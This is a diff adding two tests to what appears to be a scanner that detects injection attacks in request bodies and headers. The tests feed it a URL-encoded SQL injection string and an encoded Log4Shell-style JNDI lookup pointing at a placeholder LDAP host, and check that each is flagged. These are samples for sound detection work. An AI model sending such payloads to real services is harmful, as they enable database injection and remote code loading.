@@ -187,3 +187,13 @@ def test_every_attack_of_the_tables_is_routed_to_its_detector(attack: Attack, va
 )
 def test_ordinary_values_are_routed_nowhere(value: str) -> None:
     assert routed(value) == frozenset()
+
+
+def test_the_cache_tells_raw_bodies_from_other_values() -> None:
+    assert kinds(scan_text("1+union+select+1,2", plus_as_space=True)) == {"sqli"}
+    assert kinds(scan_text("1+union+select+1,2")) == set()
+
+
+def test_encoded_lookups_in_headers_are_read() -> None:
+    found = list(scan_fields([BodyField("header.x-api-version", "%24%7Bjndi:ldap://x.test/a%7D")]))
+    assert [(f.path, f.detection.kind.value) for f in found] == [("header.x-api-version", "jndi")]
